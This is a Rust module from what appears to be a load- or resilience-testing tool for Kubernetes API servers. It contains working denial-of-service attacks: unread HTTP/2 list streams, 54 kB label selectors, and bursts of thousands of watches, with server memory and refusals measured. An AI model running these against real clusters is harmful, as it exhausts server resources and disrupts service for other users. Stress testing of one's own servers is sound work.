//! Lists and watches that are asked for and not read, selectors that are long, watches that are many.

use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::{
    task::JoinSet,
    time::{sleep, timeout},
};

use crate::{
    attack::{
        ground::{Ground, Target, open_many},
        options::Size,
        raw::{Raw, Reads},
        report::Told,
    },
    http::Lines,
};

/// Unread lists on one connection.
const LISTS: usize = 60;
/// Streams on a connection: what HTTP/2 servers allow by default.
const STREAMS: usize = 250;
/// Unread lists of large objects.
const LARGE_LISTS: usize = 3;
/// Requirements of a long selector; with their exclamation marks and commas 54 kB.
const REQUIREMENTS: usize = 9000;
/// Lists with a long selector at the same time.
const LONG_LISTS: usize = 2;
/// Watches with a long selector.
const LONG_WATCHES: Size = Size(100, 500);
/// Watches that end at once.
const WATCHES: Size = Size(2000, 50_000);
/// On one connection.
const WATCHES_PER_CONNECTION: usize = 100;
/// How long one list with a long selector may take.
const LONG_LIST: Duration = Duration::from_secs(60);
/// Nothing is written there.
const QUIET_WATCH: &str = "/api/v1/namespaces/kube-public/configmaps?watch=true&timeoutSeconds=3600";

/// What a list can look like: name, query, and a header that asks for it.
const FORMS: [(&str, &str, (&str, &str)); 6] = [
    ("pretty", "?pretty=true", ("accept", "application/json")),
    ("yaml", "", ("accept", "application/yaml")),
    ("protobuf", "", ("accept", "application/vnd.kubernetes.protobuf")),
    ("gzip", "", ("accept-encoding", "gzip")),
    ("table", "", ("accept", "application/json;as=Table;g=meta.k8s.io;v=v1")),
    ("metadata", "", ("accept", "application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1")),
];

/// Many pretty lists on one connection, no window for any.
pub(super) async fn unread(target: &Target, told: &mut Told) {
    hold(target, told, "/api/v1/configmaps", LISTS, &FORMS[..1], target.time).await;
}

/// A full connection for each form, all at once.
pub(super) async fn unread_all(target: &Target, told: &mut Told) {
    hold(target, told, "/api/v1/configmaps", STREAMS, &FORMS, target.time).await;
}

/// A few pretty lists of large objects, again and again until the time is over.
pub(super) async fn unread_pods(target: &Target, told: &mut Told) {
    hold(target, told, "/api/v1/pods", LARGE_LISTS, &FORMS[..1], target.time).await;
}

/// A few lists of large objects in each form, one form after the other.
pub(super) async fn unread_large(ground: &mut Ground, told: &mut Told) -> Result<()> {
    let target = &ground.target;
    for form in &FORMS {
        let before = ground.server.cost()?.rss_mib;
        hold(target, told, "/api/v1/pods", LARGE_LISTS, std::slice::from_ref(form), target.time / 4).await;
        told.note(form.0, format!("{before}+{}", ground.server.cost()?.rss_mib.saturating_sub(before)));
    }
    Ok(())
}

/// Asks for `streams` lists in each form, reads nothing of them, and lets go after a time.
async fn hold(target: &Target, told: &mut Told, path: &str, streams: usize, forms: &[(&str, &str, (&str, &str))], time: Duration) {
    let end = Instant::now() + time;
    let mut held = Vec::new();
    for (name, query, header) in forms {
        let raw = match Raw::open(&target.plain, 0, 0, Reads::Everything).await {
            Ok(raw) => raw,
            Err(error) => {
                told.note("unopened", format!("{name}:{error:#}"));
                continue;
            }
        };
        let path = format!("{path}{query}");
        for _ in 0..streams {
            if raw.get(&path, &[*header]).await.is_err() {
                break;
            }
        }
        held.push(raw);
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
    let sum = |of: fn(&Raw) -> usize| held.iter().map(of).sum::<usize>();
    told.note("answered", format!("{}/{}", sum(Raw::ok), streams * forms.len()));
    told.note("refused", sum(Raw::refused) + sum(Raw::resets));
}

/// Requirements that every object without labels of these names fulfils; `of` makes two selectors differ.
fn selector(of: usize) -> String {
    let digits = |mut n: usize| {
        let mut text = String::new();
        for _ in 0..3 {
            text.push(char::from_digit(u32::try_from(n % 36).expect("below 36"), 36).expect("a digit of base 36"));
            n /= 36;
        }
        text
    };
    let mut text = format!("!w{of}");
    for n in 0..REQUIREMENTS {
        text.push_str(",!k");
        text.push_str(&digits(n));
    }
    text
}

pub(super) async fn long_selectors(target: &Target, told: &mut Told) {
    let end = Instant::now() + target.time;
    let path = format!("/api/v1/configmaps?resourceVersion=0&limit=0&labelSelector={}", selector(0));
    let lists = (0..LONG_LISTS).map(async |_| {
        let (mut answers, mut slowest) = (Vec::new(), Duration::ZERO);
        while Instant::now() < end {
            let start = Instant::now();
            let status = target.plain.get(&path, LONG_LIST).await.map_or(0, |(status, _)| status);
            slowest = slowest.max(start.elapsed());
            answers.push(status);
            // Whoever is refused may come back, but this is no flood.
            if status != 200 {
                sleep(Duration::from_millis(100)).await;
            }
        }
        (answers, slowest)
    });
    let all = futures_util::future::join_all(lists).await;
    let answers: Vec<u16> = all.iter().flat_map(|(answers, _)| answers.clone()).collect();
    told.note("lists", format!("{}/{}", answers.iter().filter(|status| **status == 200).count(), answers.len()));
    told.note("slowest_ms", all.iter().map(|(_, slowest)| slowest.as_millis()).max().unwrap_or(0));
}

/// Half of them with one selector, the others each with its own.
pub(super) async fn long_selector_watches(target: &Target, told: &mut Told) {
    let (count, end) = (target.sizes.of(LONG_WATCHES), Instant::now() + target.time);
    let (listener, path) = (target.plain.clone(), "/api/v1/configmaps?watch=true&resourceVersion=0&timeoutSeconds=3600&labelSelector=");
    let equal = selector(0);
    let (watches, refused) = open_many(count, end, |nth| {
        let selector = if nth % 2 == 0 { equal.clone() } else { selector(nth) };
        let (listener, target) = (listener.clone(), format!("{path}{selector}"));
        async move {
            let response = timeout(LONG_LIST, listener.open(&target, nth)).await??;
            anyhow::ensure!(response.status() == 200, "{}", response.status());
            Ok(Lines::new(response.into_body()))
        }
    })
    .await;
    told.note("watches", watches.len());
    told.note("refused", refused);
    let mut reading = JoinSet::new();
    for mut lines in watches {
        reading.spawn(async move { while let Ok(Some(_)) = lines.next().await {} });
    }
    sleep(end.saturating_duration_since(Instant::now())).await;
}

/// Watches that begin, stay for a moment, and end all at once.
pub(super) async fn burst(target: &Target, told: &mut Told) {
    let count = target.sizes.of(WATCHES) / WATCHES_PER_CONNECTION;
    let end = Instant::now() + target.time * 3;
    let listener = target.plain.clone();
    let (held, refused) = open_many(count, end, |nth| {
        let listener = listener.clone();
        async move {
            let raw = Raw::open(&listener, nth, 65_535, Reads::Everything).await?;
            for _ in 0..WATCHES_PER_CONNECTION {
                raw.get(QUIET_WATCH, &[]).await?;
            }
            Ok(raw)
        }
    })
    .await;
    let begun = || held.iter().map(Raw::ok).sum::<usize>();
    while begun() < held.len() * WATCHES_PER_CONNECTION && Instant::now() < end {
        sleep(Duration::from_millis(50)).await;
    }
    told.note("watches", begun());
    told.note("unopened", refused);
    sleep(Duration::from_secs(1)).await;
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn a_long_selector_has_its_requirements_each_once() {
        let text = selector(7);
        let parts: HashSet<&str> = text.split(',').collect();
        assert_eq!(parts.len(), REQUIREMENTS + 1);
        assert!(text.len() > 40_000 && text.len() < 60_000, "{}", text.len());
        assert_ne!(text, selector(8));
    }
}
